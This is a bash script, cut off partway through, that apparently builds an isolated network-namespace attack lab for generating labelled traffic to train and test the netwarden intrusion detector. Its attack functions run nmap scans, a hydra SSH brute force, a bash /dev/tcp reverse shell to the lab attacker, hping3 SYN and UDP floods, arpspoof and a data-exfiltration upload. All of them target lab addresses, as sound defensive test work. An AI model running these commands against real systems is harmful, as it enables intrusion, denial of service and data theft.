#!/usr/bin/env bash
# netwarden attack lab: one labelled run from scratch (issue 15).
#
#   sudo tests/lab/run.sh --out DIR [--seed N] [--lead-in 60s] [--attacks all|shuffle|a,b,c]
#        [--intensity low|medium|high] [--gap 15s] [--tail 30s] [--snaplen N]
#        [--exfil-mb N] [--flood-count N] [--download-max-mb N] [--clients N]
#        [--benign-rate R] [--no-install] [--keep-work]
#
# Builds network namespaces on a Linux bridge (the bridge in its own namespace, so no host
# interface is touched), starts nginx + a JSON API, redis, postgresql, sshd and dnsmasq in
# them with configs and data under a temp dir, runs seeded benign clients the whole time
# and the attacks as labelled phases, captures the bridge with tcpdump, then exports the
# capture with softflowd (NetFlow v9 and IPFIX to a collector on 127.0.0.1) and labels
# every flow. See tests/lab/README.md for the layout, knobs and guarantees.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
# shellcheck source=tests/data/helpers.sh
. "$HERE/../data/helpers.sh"
PY=${PYTHON:-/usr/bin/python3}

usage() { sed -n '2,/^set -euo/p' "${BASH_SOURCE[0]}" | grep '^#' | sed 's/^# \{0,1\}//'; exit "${1:-0}"; }
die() { echo "run.sh: $*" >&2; exit 2; }
log() { printf '[lab %(%H:%M:%S)T] %s\n' -1 "$*" >&2; }
now_ms() { date +%s%3N; }

# seconds from "90", "90s", "5m", "1h", "1h30m", "2m30s"
dur_s() {
    local s=$1 total=0 n u
    [[ $s =~ ^[0-9]+$ ]] && { echo "$s"; return; }
    [[ $s =~ ^([0-9]+[hms])+$ ]] || die "bad duration: $1 (e.g. 90, 90s, 5m, 1h30m)"
    while [[ $s =~ ^([0-9]+)([hms])(.*)$ ]]; do
        n=${BASH_REMATCH[1]}; u=${BASH_REMATCH[2]}; s=${BASH_REMATCH[3]}
        case $u in h) total=$((total + n * 3600));; m) total=$((total + n * 60));; s) total=$((total + n));; esac
    done
    echo "$total"
}

ALL_ATTACKS="scan_syn,scan_connect,scan_udp,scan_slow,bruteforce_ssh,reverse_shell,flood_syn,flood_udp,arp_spoof,exfiltration"

# ---- knobs: flags, with environment defaults (LAB_SEED, LAB_LEAD_IN, ...) -------------
SEED=${LAB_SEED:-1}
LEAD_IN=${LAB_LEAD_IN:-60s}
ATTACKS=${LAB_ATTACKS:-all}
INTENSITY=${LAB_INTENSITY:-low}
GAP=${LAB_GAP:-15s}
TAIL=${LAB_TAIL:-30s}
OUT=${LAB_OUT:-}
SNAPLEN=${LAB_SNAPLEN:-0}
EXFIL_MB=${LAB_EXFIL_MB:-}
CLIENTS=${LAB_CLIENTS:-3}
FLOOD_COUNT=${LAB_FLOOD_COUNT:-}
DOWNLOAD_MAX_MB=${LAB_DOWNLOAD_MAX_MB:-8}
BENIGN_RATE=${LAB_BENIGN_RATE:-0.7}
INSTALL=1
KEEP_WORK=0
while [[ $# -gt 0 ]]; do
    case $1 in
        --seed) SEED=$2; shift 2;;
        --lead-in) LEAD_IN=$2; shift 2;;
        --attacks) ATTACKS=$2; shift 2;;
        --intensity) INTENSITY=$2; shift 2;;
        --gap) GAP=$2; shift 2;;
        --tail) TAIL=$2; shift 2;;
        --out) OUT=$2; shift 2;;
        --snaplen) SNAPLEN=$2; shift 2;;
        --exfil-mb) EXFIL_MB=$2; shift 2;;
        --clients) CLIENTS=$2; shift 2;;
        --flood-count) FLOOD_COUNT=$2; shift 2;;
        --download-max-mb) DOWNLOAD_MAX_MB=$2; shift 2;;
        --benign-rate) BENIGN_RATE=$2; shift 2;;
        --no-install) INSTALL=0; shift;;
        --keep-work) KEEP_WORK=1; shift;;
        -h|--help) usage 0;;
        *) echo "run.sh: unknown argument: $1" >&2; usage 2;;
    esac
done
[[ -n $OUT ]] || die "--out DIR is required"
[[ $SEED =~ ^[0-9]+$ ]] || die "--seed must be a non-negative integer"
[[ $SNAPLEN =~ ^[0-9]+$ ]] || die "--snaplen must be an integer (0 = full frames)"
[[ $CLIENTS =~ ^[1-9]$ ]] || die "--clients must be 1..9"
[[ -z $FLOOD_COUNT || $FLOOD_COUNT =~ ^[1-9][0-9]*$ ]] || die "--flood-count must be a positive integer"
[[ -z $EXFIL_MB || $EXFIL_MB =~ ^[1-9][0-9]*$ ]] || die "--exfil-mb must be a positive integer"
[[ $DOWNLOAD_MAX_MB =~ ^[0-9]+$ ]] || die "--download-max-mb must be an integer (0: no downloads)"
[[ $BENIGN_RATE =~ ^[0-9]*\.?[0-9]+$ ]] || die "--benign-rate must be a number (events/s per client)"
LEAD_S=$(dur_s "$LEAD_IN"); GAP_S=$(dur_s "$GAP"); TAIL_S=$(dur_s "$TAIL")
case $INTENSITY in low|medium|high) ;; *) die "--intensity must be low, medium or high";; esac
RANDOM=$SEED   # bash's RNG: victims and the shuffled order come from the seed
if [[ $ATTACKS == all ]]; then
    ATTACKS=$ALL_ATTACKS
elif [[ $ATTACKS == shuffle ]]; then
    ATTACKS=
    for a in ${ALL_ATTACKS//,/ }; do ATTACKS+="$RANDOM $a"$'\n'; done
    ATTACKS=$(sort -n <<<"$ATTACKS" | awk 'NF {print $2}' | paste -sd,)
elif [[ $ATTACKS == none ]]; then
    ATTACKS=
fi
IFS=, read -r -a ATTACK_LIST <<<"$ATTACKS"
for a in "${ATTACK_LIST[@]}"; do
    [[ ,$ALL_ATTACKS, == *,"$a",* ]] || die "unknown attack: $a (known: $ALL_ATTACKS, or all, shuffle, none)"
done
[[ $EUID -eq 0 ]] || die "must be run as root (sudo $0 ...)"

# ---- packages ----------------------------------------------------------------------------
need_pkgs() {
    local missing=() c p
    # command -> Debian 12 package
    for c in ip:iproute2 bridge:iproute2 ethtool:ethtool tcpdump:tcpdump softflowd:softflowd \
             nginx:nginx-light redis-server:redis-server sshd:openssh-server ssh:openssh-client \
             nmap:nmap hping3:hping3 hydra:hydra arpspoof:dsniff sshpass:sshpass \
             dnsmasq:dnsmasq-base nc:netcat-openbsd curl:curl psql:postgresql-client \
             setpriv:util-linux timeout:coreutils; do
        p=${c#*:}; c=${c%%:*}
        command -v "$c" >/dev/null 2>&1 || [[ -x /usr/sbin/$c ]] || missing+=("$p")
    done
    ls /usr/lib/postgresql/*/bin/initdb >/dev/null 2>&1 || missing+=(postgresql)
    "$PY" -c 'import scapy' 2>/dev/null || missing+=(python3-scapy)
    printf '%s\n' "${missing[@]}" | sort -u | grep . || true
}
MISSING=$(need_pkgs)
if [[ -n $MISSING ]]; then
    [[ $INSTALL -eq 1 ]] || die "missing packages (run without --no-install): $(echo $MISSING)"
    log "installing: $(echo $MISSING)"
    export DEBIAN_FRONTEND=noninteractive
    # the packages' own system services (nginx, redis, postgresql, ssh) are not started:
    # the lab starts its own copies inside the namespaces (policy-rc.d, only if none exists)
    POLICY_RC=0
    if [[ ! -e /usr/sbin/policy-rc.d ]]; then
        printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d && chmod 755 /usr/sbin/policy-rc.d && POLICY_RC=1
    fi
    rc=0
    # shellcheck disable=SC2086
    { apt-get update -q && apt-get install -y -q --no-install-recommends $MISSING python3 iproute2; } >&2 || rc=$?
    [[ $POLICY_RC -eq 0 ]] || rm -f /usr/sbin/policy-rc.d
    [[ $rc -eq 0 ]] || die "apt-get failed (exit $rc)"
    MISSING=$(need_pkgs)
    [[ -z $MISSING ]] || die "still missing after apt-get: $(echo $MISSING)"
fi
PGBIN=$(ls -d /usr/lib/postgresql/*/bin | sort -V | tail -1)

# ---- one lab at a time ---------------------------------------------------------------
exec 9>/run/netwarden-lab.lock
flock -n 9 || die "another lab run holds /run/netwarden-lab.lock"

mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
WORK=$(mktemp -d /tmp/nwlab.XXXXXX)
chmod 755 "$WORK"   # postgres (its own uid) and nginx workers read under here
PAUSE_FILE=$WORK/attacker-busy

# ---- topology ----------------------------------------------------------------------------
P=nwlab   # namespace prefix
SW=$P-sw  # holds the bridge br0 and tcpdump
declare -A IP=([web]=10.77.0.10 [db]=10.77.0.20 [ssh]=10.77.0.30 [dns]=10.77.0.53 [atk]=10.77.0.66)
HOSTS=(web db ssh dns atk)
for i in $(seq 1 "$CLIENTS"); do IP[cl$i]=10.77.0.$((100 + i)); HOSTS+=("cl$i"); done
SSH_USER=nwlab
SSH_PASS=Winter2026!
LAB_GECOS="netwarden lab user (tests/lab/run.sh)"

PIDS=()          # every background process we start, killed by PID on exit
TCPDUMP_PID=
CREATED_USER=0
CREATED_RUN_SSHD=0

ns_exists() { ip netns list | awk '{print $1}' | grep -qx "$1"; }
ns_sweep() {   # kill what still runs inside our namespaces (by PID), then delete them
    local ns
    for ns in "$SW" "${HOSTS[@]/#/$P-}"; do
        netns_remove "$ns"
    done
}
cleanup() {
    local rc=$? p
    trap - EXIT INT TERM
    for p in "${PIDS[@]}" $TCPDUMP_PID; do kill "$p" 2>/dev/null || true; done
    sleep 0.3
    for p in "${PIDS[@]}" $TCPDUMP_PID; do kill -9 "$p" 2>/dev/null || true; done
    ns_sweep
    if [[ $CREATED_USER -eq 1 ]]; then userdel "$SSH_USER" 2>/dev/null || true; fi
    if [[ $CREATED_RUN_SSHD -eq 1 ]]; then rmdir /run/sshd 2>/dev/null || true; fi
    if [[ $KEEP_WORK -eq 1 || $rc -ne 0 ]]; then
        log "work dir kept: $WORK"
    else
        rm -rf "$WORK"
    fi
    [[ $rc -eq 0 ]] || log "FAILED (exit $rc)"
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

# (foreground only: a backgrounded shell function runs in a subshell, and $! would be the
# subshell's PID, not the daemon's; background starts call `ip netns exec` directly)
inns() { local h=$1; shift; ip netns exec "$P-$h" "$@"; }
bg() {  # LOGNAME HOST CMD...   start in HOST's namespace in the background, remember the PID
    local name=$1 h=$2; shift 2
    ip netns exec "$P-$h" "$@" >"$WORK/log/$name.log" 2>&1 &
    PIDS+=("$!")
}

setup_net() {
    ns_sweep   # left-overs of an interrupted earlier run
    ip netns add "$SW"
    ip -n "$SW" link set lo up
    ip netns exec "$SW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    ip -n "$SW" link add br0 type bridge stp_state 0 forward_delay 0
    local h ns i=0 mac
    for h in "${HOSTS[@]}"; do
        ns=$P-$h
        ip netns add "$ns"
        ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
        # both ends are created directly inside the lab namespaces
        ip link add "v-$h" netns "$SW" type veth peer name eth0 netns "$ns"
        mac=$(printf '02:77:00:00:00:%02x' "${IP[$h]##*.}")
        ip -n "$ns" link set eth0 address "$mac"
        ip -n "$ns" addr add "${IP[$h]}/24" dev eth0
        ip -n "$ns" link set lo up
        ip -n "$ns" link set eth0 up
        ip -n "$SW" link set "v-$h" master br0
        ip -n "$SW" link set "v-$h" up
        # packets at most MTU sized, as on a real link
        ip netns exec "$SW" ethtool -K "v-$h" tso off gso off gro off >/dev/null 2>&1 || true
        ip netns exec "$ns" ethtool -K eth0 tso off gso off gro off >/dev/null 2>&1 || true
        i=$((i + 1))
    done
    ip netns exec "$SW" ethtool -K br0 tso off gso off gro off >/dev/null 2>&1 || true
    ip -n "$SW" link set br0 up
    # the attacker forwards while it spoofs ARP (a man in the middle) and, like a careful
    # attacker, sends no ICMP redirects that would give it away
    ip netns exec "$P-atk" sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 \
        net.ipv4.conf.eth0.send_redirects=0 net.ipv4.conf.default.send_redirects=0
    log "namespaces up: $SW (br0) + ${HOSTS[*]/#/$P-}"
}

# ---- servers ----------------------------------------------------------------------------
make_www() {
    local w=$WORK/www
    mkdir -p "$w/static" "$w/img" "$w/files" "$w/api" "$w/news"
    local pg
    for pg in index about products contact; do
        local np=$((RANDOM % 40 + 20))
        { echo "<!doctype html><html><head><title>Lab shop - $pg</title>"
          echo '<link rel="stylesheet" href="/static/style.css"><script src="/static/app.js"></script></head><body>'
          for i in $(seq 1 "$np"); do echo "<p>$pg paragraph $i: lorem ipsum dolor sit amet, consectetur adipiscing elit.</p>"; done
          echo '</body></html>'; } >"$w/$pg.html"
    done
    cp "$w/index.html" "$w/news/2026-11.html"
    head -c 20000 /dev/urandom | base64 >"$w/static/app.js"
    head -c 4000 /dev/urandom | base64 >"$w/static/style.css"
    head -c 30000 /dev/urandom >"$w/img/logo.png"
    head -c 1000000 /dev/urandom >"$w/files/report.pdf"
    head -c 4000000 /dev/urandom >"$w/files/dataset.bin"
    head -c 8000000 /dev/urandom >"$w/files/backup.tar"
    echo '{"status":"ok","version":"1.4.2","uptime":12345}' >"$w/api/status.json"
    printf '[db]\nhost=10.77.0.20\nuser=lab\npassword=labpass\n' >"$w/config.ini.bak"
}

start_servers() {
    mkdir -p "$WORK/log"
    # nginx (web): static site, 404s, downloads
    make_www
    mkdir -p "$WORK/nginx/tmp"
    cat >"$WORK/nginx/nginx.conf" <<EOF
user root;                      # workers read the site under $WORK
worker_processes 1;
daemon off;
pid $WORK/nginx/nginx.pid;
error_log $WORK/nginx/error.log;
events { worker_connections 512; }
http {
    access_log $WORK/nginx/access.log;
    client_body_temp_path $WORK/nginx/tmp/body;
    proxy_temp_path $WORK/nginx/tmp/proxy;
    fastcgi_temp_path $WORK/nginx/tmp/fastcgi;
    uwsgi_temp_path $WORK/nginx/tmp/uwsgi;
    scgi_temp_path $WORK/nginx/tmp/scgi;
    types { text/html html; text/css css; application/javascript js; image/png png;
            application/json json; application/pdf pdf; application/octet-stream bin tar; }
    sendfile on;
    keepalive_timeout 15;
    server {
        listen ${IP[web]}:80;
        server_name web.lab.test;
        root $WORK/www;
        location = /config.ini.bak { return 404; }
    }
}
EOF
    bg nginx web nginx -e "$WORK/nginx/error.log" -p "$WORK/nginx" -c "$WORK/nginx/nginx.conf"
    # JSON API (web:8080)
    bg api web "$PY" "$HERE/api_server.py" "${IP[web]}" 8080
    # redis (db)
    mkdir -p "$WORK/redis"
    bg redis db redis-server --bind "${IP[db]}" --port 6379 --dir "$WORK/redis" --save '' \
        --appendonly no --protected-mode no --daemonize no --logfile ''
    # postgresql (db), as the postgres user, data under $WORK
    mkdir -p "$WORK/pg" "$WORK/pgsock"
    chown postgres: "$WORK/pg" "$WORK/pgsock"
    setpriv --reuid=postgres --regid=postgres --init-groups "$PGBIN/initdb" -D "$WORK/pg/data" \
        -U postgres --auth-local=trust --auth-host=scram-sha-256 >"$WORK/log/initdb.log" 2>&1
    echo "host lab lab 10.77.0.0/24 scram-sha-256" >>"$WORK/pg/data/pg_hba.conf"
    bg postgres db setpriv --reuid=postgres --regid=postgres --init-groups "$PGBIN/postgres" \
        -D "$WORK/pg/data" -c listen_addresses="${IP[db]}" -c port=5432 \
        -c unix_socket_directories="$WORK/pgsock" -c shared_buffers=16MB -c fsync=off \
        -c log_destination=stderr
    # sshd (ssh): a lab user with a known password
    if id "$SSH_USER" >/dev/null 2>&1; then
        [[ $(getent passwd "$SSH_USER" | cut -d: -f5) == "$LAB_GECOS" ]] || \
            die "user $SSH_USER exists and was not made by the lab; refusing to touch it"
        CREATED_USER=1
    else
        useradd -M -d "$WORK/home" -s /bin/bash -c "$LAB_GECOS" "$SSH_USER"
        CREATED_USER=1
    fi
    usermod -d "$WORK/home" "$SSH_USER" >/dev/null 2>&1 || true
    mkdir -p "$WORK/home" && chown "$SSH_USER": "$WORK/home"
    echo "$SSH_USER:$SSH_PASS" | chpasswd
    [[ -d /run/sshd ]] || { mkdir -p /run/sshd; chmod 755 /run/sshd; CREATED_RUN_SSHD=1; }
    mkdir -p "$WORK/ssh"
    ssh-keygen -q -t ed25519 -N '' -f "$WORK/ssh/host_ed25519"
    cat >"$WORK/ssh/sshd_config" <<EOF
ListenAddress ${IP[ssh]}
Port 22
HostKey $WORK/ssh/host_ed25519
PidFile $WORK/ssh/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
PubkeyAuthentication no
UsePAM no
PermitRootLogin no
AllowUsers $SSH_USER
StrictModes no
MaxStartups 30:50:100
LogLevel INFO
EOF
    bg sshd ssh /usr/sbin/sshd -D -e -f "$WORK/ssh/sshd_config"
    # dnsmasq (dns): authoritative-ish resolver for lab.test, no upstream
    cat >"$WORK/dnsmasq.conf" <<EOF
no-resolv
no-hosts
no-poll
listen-address=${IP[dns]}
bind-interfaces
domain=lab.test
local=/lab.test/
host-record=web.lab.test,${IP[web]}
host-record=www.lab.test,${IP[web]}
host-record=api.lab.test,${IP[web]}
host-record=files.lab.test,${IP[web]}
host-record=db.lab.test,${IP[db]}
host-record=cache.lab.test,${IP[db]}
host-record=ssh.lab.test,${IP[ssh]}
host-record=ns.lab.test,${IP[dns]}
mx-host=lab.test,mail.lab.test,10
txt-record=lab.test,"v=lab1"
pid-file=$WORK/dnsmasq.pid
log-facility=$WORK/log/dnsmasq-queries.log
EOF
    bg dnsmasq dns dnsmasq -k --conf-file="$WORK/dnsmasq.conf"
    # wait for every service to answer
    local i
    for i in $(seq 1 60); do
        if inns cl1 bash -c "exec 3<>/dev/tcp/${IP[web]}/80 && exec 3<>/dev/tcp/${IP[web]}/8080 && \
                exec 3<>/dev/tcp/${IP[db]}/6379 && exec 3<>/dev/tcp/${IP[db]}/5432 && \
                exec 3<>/dev/tcp/${IP[ssh]}/22" 2>/dev/null; then
            break
        fi
        sleep 0.5
    done
    [[ $i -lt 60 ]] || { tail -n 5 "$WORK"/log/*.log >&2; die "services did not come up"; }
    # the database's tables (over the unix socket: not on the wire)
    inns db setpriv --reuid=postgres --regid=postgres --init-groups psql -X -q -h "$WORK/pgsock" -U postgres \
        -d postgres >"$WORK/log/pg-init.log" 2>&1 <<'EOF'
CREATE ROLE lab LOGIN PASSWORD 'labpass';
CREATE DATABASE lab OWNER lab;
\c lab
SET ROLE lab;
CREATE TABLE items (id serial PRIMARY KEY, name text NOT NULL, price numeric(8,2), created timestamptz DEFAULT now());
INSERT INTO items (name, price) SELECT 'item-' || g, round((random() * 500)::numeric, 2) FROM generate_series(1, 200) g;
CREATE TABLE orders (id serial PRIMARY KEY, item_id int REFERENCES items(id), qty int, at timestamptz DEFAULT now());
EOF
    inns cl1 sshpass -p "$SSH_PASS" ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o ConnectTimeout=5 -o LogLevel=ERROR -o PubkeyAuthentication=no "$SSH_USER@${IP[ssh]}" true \
        || { tail -n 20 "$WORK/log/sshd.log" >&2; die "ssh login as $SSH_USER does not work"; }
    log "servers up: nginx+api ${IP[web]}, redis+postgresql ${IP[db]}, sshd ${IP[ssh]}, dnsmasq ${IP[dns]}"
}

# ---- capture -----------------------------------------------------------------------------
start_capture() {
    local snap=$SNAPLEN
    [[ $snap -gt 0 ]] || snap=262144
    : >"$WORK/log/tcpdump.log"
    # -Z root: write as root into --out; promiscuous br0 sees every frame the bridge forwards
    ip netns exec "$SW" tcpdump -Z root -n -i br0 -B 32768 -s "$snap" -U -w "$OUT/capture.pcap" \
        2>"$WORK/log/tcpdump.log" &
    TCPDUMP_PID=$!
    tcpdump_wait_listening "$TCPDUMP_PID" "$WORK/log/tcpdump.log" \
        || { cat "$WORK/log/tcpdump.log" >&2; die "tcpdump failed"; }
    sleep 0.5
}
stop_capture() {
    sleep 1
    kill -INT "$TCPDUMP_PID" 2>/dev/null || true
    wait "$TCPDUMP_PID" 2>/dev/null || true
    TCPDUMP_PID=
    grep -E 'packets (captured|received|dropped)' "$WORK/log/tcpdump.log" >&2 || true
}

# ---- benign clients ------------------------------------------------------------------------
BENIGN_PIDS=()
start_benign() {  # TOTAL_SECONDS
    local total=$1 h i=0 peers
    peers=$(for h in "${HOSTS[@]}"; do [[ $h == cl* ]] && echo "${IP[$h]}"; done | paste -sd,)
    for h in "${HOSTS[@]}"; do
        local profile rate
        case $h in
            cl*) profile=workstation; rate=$BENIGN_RATE;;
            web) profile=backend; rate=$("$PY" -c "print(round($BENIGN_RATE * 0.8, 4))");;
            atk) profile=attacker; rate=$("$PY" -c "print(round($BENIGN_RATE * 0.25, 4))");;
            *) continue;;
        esac
        i=$((i + 1))
        local pause=()
        # the attacker's benign sockets use a private port range, below the kernel's
        # ephemeral ports (which the attack tools use): no 5-tuple is used twice
        [[ $h == atk ]] && pause=(--pause-file "$PAUSE_FILE" --source-port-base 20000)
        ip netns exec "$P-$h" timeout $((total + 60)) "$PY" "$HERE/benign.py" --name "$h" \
            --seed $((SEED * 1000 + i)) --duration "$total" --rate "$rate" --profile "$profile" \
            --peers "$peers" --download-max-mb "$DOWNLOAD_MAX_MB" --ssh-user "$SSH_USER" --ssh-password "$SSH_PASS" \
            --log "$WORK/log/benign-$h.jsonl" "${pause[@]}" \
            >"$WORK/log/benign-$h.log" 2>&1 &
        PIDS+=("$!"); BENIGN_PIDS+=("$!")
    done
}

# ---- attacks ------------------------------------------------------------------------------
SERVERS=(web db ssh dns)
# pick VAR ITEM...: a seeded choice. Never call RANDOM in $(...): bash reseeds subshells.
pick() { local v=$1; shift; local arr=("$@"); printf -v "$v" '%s' "${arr[RANDOM % ${#arr[@]}]}"; }

# intensity tables: low / medium / high
lvl() { case $INTENSITY in low) echo "$1";; medium) echo "$2";; high) echo "$3";; esac; }

# Each attack_* sets VICTIM (one IP or empty), NOTES, CMD (for params.json) and runs,
# bounded by `timeout`. ATK is the attacker IP for all of them.
ATK=${IP[atk]}
attack_scan_syn() {
    local ports hosts h
    ports=$(lvl 1-1000 1-5000 1-10000)
    if [[ $INTENSITY == low ]]; then pick h "${SERVERS[@]}"; hosts=${IP[$h]}; VICTIM=$hosts
    else hosts="${IP[web]} ${IP[db]} ${IP[ssh]} ${IP[dns]}"; VICTIM=; fi
    CMD="nmap -n -Pn -sS -T4 --max-retries 1 -p $ports $hosts"
    NOTES="nmap SYN scan of $hosts ports $ports"
    # shellcheck disable=SC2086
    inns atk timeout 300 nmap -n -Pn -sS -T4 --max-retries 1 -p "$ports" $hosts >"$WORK/log/nmap-syn.txt" 2>&1 || true
}
attack_scan_connect() {
    local top hosts h
    top=$(lvl 300 1000 2000)
    if [[ $INTENSITY == high ]]; then hosts="${IP[web]} ${IP[db]}"; VICTIM=
    else pick h "${SERVERS[@]}"; hosts=${IP[$h]}; VICTIM=$hosts; fi
    CMD="nmap -n -Pn -sT -T4 --max-retries 1 --top-ports $top $hosts"
    NOTES="nmap connect scan, top $top ports of $hosts"
    # shellcheck disable=SC2086
    inns atk timeout 300 nmap -n -Pn -sT -T4 --max-retries 1 --top-ports "$top" $hosts >"$WORK/log/nmap-connect.txt" 2>&1 || true
}
attack_scan_udp() {
    local top h
    top=$(lvl 30 100 200)
    pick h "${SERVERS[@]}"; VICTIM=${IP[$h]}
    CMD="nmap -n -Pn -sU -T4 --max-retries 1 --host-timeout $(lvl 60 120 240)s --top-ports $top $VICTIM"
    NOTES="nmap UDP scan, top $top ports (victim's ICMP rate limit left at the kernel default)"
    # shellcheck disable=SC2086
    inns atk timeout 300 $CMD >"$WORK/log/nmap-udp.txt" 2>&1 || true
}
attack_scan_slow() {
    local n delay ports h
    n=$(lvl 12 30 60); delay=$(lvl 5 8 10)
    # well-known service ports first, then the ranges after them
    ports=$( (echo 22 80 443 21 23 25 53 110 143 445 3306 3389 5432 6379 8080 8443 5900 139 111 993 995 587 1433 27017 9200 11211 2049 389 636 1521; seq 1000 1100) \
        | tr ' ' '\n' | head -n "$n" | paste -sd,)
    pick h "${SERVERS[@]}"; VICTIM=${IP[$h]}
    CMD="nmap -n -Pn -sT --max-retries 0 --scan-delay ${delay}s -p $ports $VICTIM"
    NOTES="slow connect scan: $n ports, one every ${delay}s (~$((n * delay))s)"
    inns atk timeout $((n * delay + 120)) nmap -n -Pn -sT --max-retries 0 --scan-delay "${delay}s" \
        -p "$ports" "$VICTIM" >"$WORK/log/nmap-slow.txt" 2>&1 || true
}
attack_bruteforce_ssh() {
    local n
    n=$(lvl 30 120 400)
    VICTIM=${IP[ssh]}
    # n-1 wrong passwords, then the right one (hydra -f stops at the first hit)
    { awk -v n=$((n - 1)) -v s="$SEED" 'BEGIN { srand(s); split("password admin letmein qwerty dragon monkey summer winter welcome secret", w, " ");
          for (i = 1; i <= n; i++) printf "%s%d\n", w[int(rand() * 10) + 1], int(rand() * 3000) }'
      echo "$SSH_PASS"; } | awk '!seen[$0]++' >"$WORK/words.txt"
    CMD="hydra -I -f -t 4 -l $SSH_USER -P words.txt($(wc -l <"$WORK/words.txt") words) ssh://$VICTIM"
    NOTES="hydra SSH brute force, $(wc -l <"$WORK/words.txt") passwords, the last one correct"
    (cd "$WORK" && inns atk timeout "$(lvl 180 420 900)" hydra -I -f -t 4 -l "$SSH_USER" -P "$WORK/words.txt" \
        -o "$WORK/log/hydra-found.txt" "ssh://$VICTIM" >"$WORK/log/hydra.txt" 2>&1) || true
}
attack_reverse_shell() {
    local h n port=4444
    pick h web db; VICTIM=${IP[$h]}
    n=$(lvl 6 15 40)
    CMD="victim: bash -c 'bash -i >& /dev/tcp/$ATK/$port 0>&1'; attacker: nc -l $ATK $port ($n commands)"
    NOTES="reverse shell from compromised $h to the attacker's listener on $port, $n commands"
    {
        sleep 2
        # commands that only look at the lab's own files (nothing about the host ends up in a capture)
        local cmds=("cd $WORK/www" "id" "pwd" "ls -la" "cat config.ini.bak" "cat api/status.json" "ls -la files static"
                    "wc -c files/*" "head -c 400 index.html" "date -u" "echo \$SHELL" "ls -la img news")
        for i in $(seq 0 $((n - 1))); do echo "${cmds[i % ${#cmds[@]}]}"; sleep $((RANDOM % 3 + 1)); done
        echo exit
        sleep 1
    } | ip netns exec "$P-atk" timeout $((n * 4 + 30)) nc -l "$ATK" "$port" >"$WORK/log/revshell-attacker.txt" 2>&1 &
    local lpid=$!
    PIDS+=("$lpid")
    sleep 1
    inns "$h" timeout $((n * 4 + 25)) bash -c "bash --norc --noprofile -i >& /dev/tcp/$ATK/$port 0>&1" \
        >/dev/null 2>&1 || true
    wait "$lpid" 2>/dev/null || true
}
attack_flood_syn() {
    local c iv h port
    c=${FLOOD_COUNT:-$(lvl 2000 20000 100000)}; iv=$(lvl u500 u100 u50)
    pick h web db; VICTIM=${IP[$h]}
    port=$([[ $h == web ]] && echo 80 || echo 5432)
    CMD="hping3 -S -p $port -c $c -i $iv $VICTIM"
    NOTES="hping3 SYN flood, $c SYNs to $h:$port (source ports increment)"
    inns atk timeout "$(lvl 30 60 120)" hping3 -S -p "$port" -c "$c" -i "$iv" "$VICTIM" \
        >"$WORK/log/hping-syn.txt" 2>&1 || true
}
attack_flood_udp() {
    local c iv h port
    c=${FLOOD_COUNT:-$(lvl 2000 20000 100000)}; iv=$(lvl u500 u100 u50)
    pick h dns web; VICTIM=${IP[$h]}
    port=$([[ $h == dns ]] && echo 53 || echo 123)
    CMD="hping3 --udp -p $port -d 256 -c $c -i $iv $VICTIM"
    NOTES="hping3 UDP flood, $c datagrams of 256 B to $h:$port"
    inns atk timeout "$(lvl 30 60 120)" hping3 --udp -p "$port" -d 256 -c "$c" -i "$iv" "$VICTIM" \
        >"$WORK/log/hping-udp.txt" 2>&1 || true
}
attack_arp_spoof() {
    local t c s
    t=$(lvl 20 60 120)
    local clients=() h
    for h in "${HOSTS[@]}"; do [[ $h == cl* ]] && clients+=("$h"); done
    # the server it impersonates is the one clients talk to most (web), now and then the resolver
    pick c "${clients[@]}"; pick s web web web dns
    VICTIM=${IP[$c]}
    CMD="arpspoof -i eth0 -t ${IP[$c]} -r ${IP[$s]} (timeout ${t}s)"
    NOTES="ARP spoofing: attacker poses as $s to $c and back (forwarding on: man in the middle); ARP only, no IP flow has the attacker as an endpoint"
    inns atk timeout "$t" arpspoof -i eth0 -t "${IP[$c]}" -r "${IP[$s]}" >"$WORK/log/arpspoof.txt" 2>&1 || true
    sleep 3  # arpspoof re-ARPs the true addresses on its way out
}
attack_exfiltration() {
    local mb rate h port=9001
    mb=${EXFIL_MB:-$(lvl 20 35 50)}
    rate=$(lvl 4000000 6000000 10000000)
    pick h db web; VICTIM=${IP[$h]}
    CMD="exfil.py $ATK $port $((mb * 1000000)) $rate (from $h); attacker: sink.py tcp $ATK $port"
    NOTES="data exfiltration: $mb MB upload from $h to the attacker's port $port at ~$((rate / 1000000)) MB/s"
    ip netns exec "$P-atk" timeout 120 "$PY" "$HERE/sink.py" tcp "$ATK" "$port" >"$WORK/log/exfil-sink.txt" 2>&1 &
    local spid=$!
    PIDS+=("$spid")
    sleep 1
    inns "$h" timeout 110 "$PY" "$HERE/exfil.py" "$ATK" "$port" $((mb * 1000000)) "$rate" \
        >"$WORK/log/exfil.txt" 2>&1 || true
    wait "$spid" 2>/dev/null || true
}

# ---- phases --------------------------------------------------------------------------------
LABELS=$OUT/labels.csv
PHASE_N=0
PHASES_JSON=$WORK/phases.jsonl
phase_row() {  # NAME KIND LABEL ATTACKER VICTIM START END NOTES [COMMAND]
    local name
    name=$(printf 'p%02d-%s' "$PHASE_N" "$1")
    shift
    PHASE_N=$((PHASE_N + 1))
    printf '%s,%s,%s,%s,%s,%s,%s,"%s"\n' "$name" "$1" "$2" "$3" "$4" "$5" "$6" "${7//\"/\'}" >>"$LABELS"
    "$PY" -c 'import json,sys; print(json.dumps(dict(zip(["phase","kind","label","attacker_ip","victim_ip","start_ms","end_ms","notes","command"], sys.argv[1:]))))' \
        "$name" "$1" "$2" "$3" "$4" "$5" "$6" "$7" "${8:-}" >>"$PHASES_JSON"
    log "phase $name ($2) $(( ($6 - $5) / 1000 ))s ${7:0:100}"
}

run_timeline() {
    local t a start end
    echo "phase,kind,label,attacker_ip,victim_ip,start_ms,end_ms,notes" >"$LABELS"
    : >"$PHASES_JSON"
    t=$(now_ms)
    sleep "$LEAD_S"
